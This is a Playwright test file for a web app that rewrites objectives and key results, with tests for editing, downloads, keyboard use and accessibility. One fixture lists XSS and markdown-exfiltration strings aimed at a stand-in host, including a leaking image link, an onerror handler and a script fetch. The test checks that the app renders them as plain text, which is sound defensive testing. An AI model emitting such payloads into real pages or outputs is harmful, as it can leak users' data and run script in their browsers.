"""What a person does on the page Rewrite, in real Chromium."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
import steps
from playwright.sync_api import expect

from coach import parse

if TYPE_CHECKING:
    from playwright.sync_api import BrowserContext, Page

PAYLOADS = (
    "![leak](http://192.0.2.1/leak.png?d=goals)",
    "[click](http://192.0.2.1/away)",
    "<img src=http://192.0.2.1/a.png onerror=alert(1)>",
    "<script>fetch('http://192.0.2.1')</script>",
    "$$\\frac{1}{2}$$ and $x^2$",
    ":tada: :material/delete: :red[loud]",
    "**bold** ~~gone~~ `code` # title",
    "http://192.0.2.1/bare www.example.org mail@example.org",
    "a -> b >= c -- d",
)


def test_paste_answer_take_download(work: Page) -> None:
    steps.bring(work)
    missing = steps.missing(work)
    steps.answer(work, 1, steps.SAID)
    expect(work.get_by_test_id("stMain")).to_contain_text("24 min (March)")
    expect(work.get_by_text("Every figure here is yours")).not_to_contain_text(f"{missing} missing")
    work.get_by_role("button", name="Take the whole set").click()
    work.get_by_role("button", name="Take it home").click()
    got = steps.download(work, "Your document").decode()
    assert got.startswith("# Harbour office, spring\n\n## ")
    assert "- Boarding time from 24 min (March) to 15 min\n" in got
    assert "- Complaints at the gate from 40 to 25 a month\n" in got
    assert "Install the new ticket gates" in got
    assert "Keep lifeboat drills at one a week\n" in got


def test_upload_edit_download_changes_one_cell_and_no_other_byte(work: Page) -> None:
    sheet = b'\xef\xbb\xbfObjective;"Key result";Owner\r\n"Calm; boarding";Install the ticket gates;Una\r\n"Calm; boarding";"Boarding time from 24 min to 15 min";Ole\r\n'
    steps.upload(work, "goals.csv", sheet)
    steps.tab(work, "Line by line")
    line = steps.card(work, "Install the ticket gates")
    line.get_by_text("Edit", exact=True).click()
    field = work.get_by_label("Your words")
    field.fill("Share of passengers through the gates without help, 61% to 80%")
    field.press("Control+Enter")
    expect(work.get_by_text("Your words", exact=True)).to_be_visible()
    steps.idle(work)
    steps.tab(work, "Take it home")
    got = steps.download(work, "Your document")
    words = b'"Share of passengers through the gates without help, 61% to 80%; Initiative: Install the ticket gates"'
    assert got == sheet.replace(b"Install the ticket gates", words)


@pytest.mark.parametrize("name", ["Markdown", "CSV", "JSON"])
def test_other_forms_come_home_too(work: Page, name: str) -> None:
    steps.bring(work)
    steps.tab(work, "Take it home")
    assert b"Complaints at the gate from 40 to 25 a month" in steps.download(work, name)


def test_typed_text_is_shown_as_text(work: Page) -> None:
    lines = "".join(f"- Install {payload}\n" for payload in PAYLOADS)
    text = f"## Calm boarding {PAYLOADS[0]}\n{lines}- Boarding time {PAYLOADS[1]} from 24 min to 15 min\n"
    steps.bring(work, text)
    for name in ("Proposed set", "Line by line", "Picture", "Take it home"):
        steps.tab(work, name)
        main = work.get_by_test_id("stMain")
        made = main.locator("img, script, .katex, del, a[href*='192.0.2.1'], a[href*='example']")
        assert made.evaluate_all("found => found.map(each => each.outerHTML)") == [], name
    steps.tab(work, "Line by line")
    work.get_by_text("stay as they are").click()
    expect(work.get_by_role("button", name="edit", exact=True).first).to_be_visible()
    seen = work.get_by_test_id("stMain").inner_text().replace("\u2060", "")
    (objective,) = parse.read(text).objectives
    for part in (objective, *objective.key_results):
        assert part.text in seen


def test_what_cannot_be_read_stays_in_its_field(work: Page) -> None:
    steps.paste(work, "Dear all, lunch is at noon.")
    expect(work.locator(".st-key-note")).to_be_visible()
    expect(work.get_by_label("Your objectives and key results")).to_have_value("Dear all, lunch is at noon.")


def test_unsent_words_survive_a_visit_to_another_page(work: Page) -> None:
    field = work.get_by_label("Your objectives and key results")
    field.fill(steps.PASTED)
    field.blur()
    steps.idle(work)
    work.get_by_role("link", name="Start").click()
    work.get_by_role("button", name="Paste or upload").click()
    expect(work.get_by_label("Your objectives and key results")).to_have_value(steps.PASTED)


def test_it_works_by_keyboard_alone(work: Page) -> None:
    field = work.get_by_label("Your objectives and key results")
    field.focus()
    work.keyboard.insert_text(steps.PASTED)
    work.keyboard.press("Tab")
    expect(work.get_by_role("button", name="Propose a set")).to_be_focused()
    work.keyboard.press("Enter")
    expect(work.get_by_role("heading", name="Your set, proposed")).to_be_visible()
    steps.idle(work)
    work.get_by_role("tab", name="Proposed set").focus()
    work.keyboard.press("ArrowRight")
    work.keyboard.press("Enter")
    expect(work.get_by_role("tab", name="Line by line")).to_have_attribute("aria-selected", "true")
    take = work.get_by_text("Take", exact=True).first.locator("xpath=ancestor-or-self::button")
    take.focus()
    work.keyboard.press("Enter")
    expect(work.get_by_role("button", name="Undo")).to_be_visible()


def test_a_long_document_works_on_every_tab(work: Page) -> None:
    piers = ("".join(f"- Install gate {o}-{k}\n" for k in range(24)) for o in range(20))
    steps.bring(work, "".join(f"## Pier {o} is calm\n{gates}" for o, gates in enumerate(piers)))
    for name in ("Line by line", "Picture", "Take it home", "Proposed set"):
        steps.tab(work, name)
    work.get_by_role("button", name="Next objective").click()
    expect(work.get_by_role("heading", name="Pier 1 is calm")).to_be_visible()
    work.get_by_role("button", name="Take all objectives").click()
    expect(work.get_by_test_id("stTabs").get_by_role("button", name="Take it home")).to_be_visible()


@pytest.mark.parametrize(
    ("width", "height", "scheme"),
    [(1360, 900, "light"), (1360, 900, "dark"), (390, 844, "light"), (390, 844, "dark")],
)
def test_every_state_is_accessible_and_fits(
    context: BrowserContext, site: str, width: int, height: int, scheme: str
) -> None:
    page = context.new_page()
    page.set_viewport_size({"width": width, "height": height})
    page.emulate_media(color_scheme=scheme)  # type: ignore[arg-type]
    for state, here in steps.states(page, site):
        assert not steps.violations(here), state
        assert steps.overflow(here) <= 0, state
